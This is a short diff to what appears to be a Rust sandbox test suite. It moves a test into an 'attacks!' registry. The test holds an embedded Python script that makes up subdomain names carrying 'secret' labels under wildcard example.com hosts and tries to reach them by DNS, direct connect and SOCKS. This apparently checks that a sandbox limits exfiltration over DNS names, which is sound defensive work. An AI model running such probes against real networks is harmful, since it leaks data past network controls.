@@ -3,6 +3,10 @@
 use crate::support::{sandbox, world};
 use std::collections::BTreeSet;
 
+crate::attacks! {
+    names_made_up_below_a_wildcard_leave_within_a_budget_on_every_path,
+}
+
 /// Makes names up below a wildcard on every path that resolves, and says how each path ended.
 const MADE_UP: &str = "
 import socket, struct
@@ -32,7 +36,6 @@ print('dns', last, 'connect', connect('secret-c.wild.example.com'), 'socks', soc
       'known', dns('secret3.wild.example.com'), 'listed', dns('api.example.com'))
 ";
 
-#[test]
 fn names_made_up_below_a_wildcard_leave_within_a_budget_on_every_path() {
     let world = world();
     let ran = sandbox(&world)
